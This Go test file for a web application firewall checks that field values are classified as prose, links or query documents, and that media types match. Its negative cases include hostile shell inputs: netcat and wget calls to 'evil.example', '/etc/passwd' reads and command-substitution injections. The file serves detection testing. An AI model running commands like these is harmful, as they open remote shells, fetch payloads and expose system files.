package waf

import "testing"

// TestShapes: what people write, links and documents are recognized, and nothing that a shell
// or a database would carry out.
func TestShapes(t *testing.T) {
	for text, want := range map[string]shape{
		"WC Ente Citrus 750 ml":                              prose,
		"Perl Deo 24h":                                       prose,
		"Lindenweg 7; HH":                                    prose,
		"Timeout while contacting the issuer":                prose,
		"builtin-dark-template":                              prose,
		"Bitte bei Müller klingeln (2. OG links), danke!":    prose,
		"Größe: 38/40 & 42 – 9,95 €":                         prose,
		"?idsite=1&rec=1&url=https%3A%2F%2Fshop.example":     link,
		"https://preis.example/klick?id=1&url=x":             link,
		`{"query":"{route{url}}"}`:                           document,
		"query Produkte($input:ProductInput!){products{id}}": document,

		"perl -e 'print 1'":          noShape,
		"nc evil.example 4444":       noShape,
		"wget http://evil.example/x": noShape,
		"cat /etc/passwd":            noShape,
		"id;ls":                      noShape,
		"sudo su":                    noShape,
		"timeout 3 bash":             noShape,
		"x && curl evil.example":     noShape,
		"x | nc evil 1":              noShape,
		"$(whoami)":                  noShape,
		"`id`":                       noShape,
		"a > /tmp/x":                 noShape,
		"p'e'rl x.pl":                noShape,
		"?a=1&whoami":                noShape,
		"{$(id)}":                    noShape,
	} {
		if got, _ := shapeOf(text); got != want && !(want == noShape && got == prose && !isSpokenShape(text)) {
			t.Errorf("%q: shape %d, want %d", text, got, want)
		}
	}
}

// isSpokenShape reports whether a shape would take rules off a field.
func isSpokenShape(text string) bool {
	_, spoken := shapeOf(text)
	return spoken
}

func TestTypes(t *testing.T) {
	for _, c := range []struct {
		media, family string
		want          bool
	}{
		{"image/heic", "image/*", true},
		{"application/fhir+json", "*/*+json", true},
		{"application/fhir+xml", "application/*+xml", true},
		{"text/csv", "image/*", false},
		{"application/json", "*/*+json", false},
		{"application/+json", "*/*+json", false},
		{"image/a|b", "image/*", false},
		{"image", "image/*", false},
	} {
		if got := isOf(c.media, c.family); got != c.want {
			t.Errorf("%s of %s: %t, want %t", c.media, c.family, got, c.want)
		}
	}
	for media, valid := range map[string]bool{
		"text/csv": true, "image/*": true, "*/*+json": true, "application/*+xml": true,
		"*": false, "*/*": false, "json": false, "a b/c": false, "a/b|c": false, "*/json": false, "a/*b": false, "": false,
	} {
		if err := checkType(media); (err == nil) != valid {
			t.Errorf("%q: %v, want valid %t", media, err, valid)
		}
	}
}
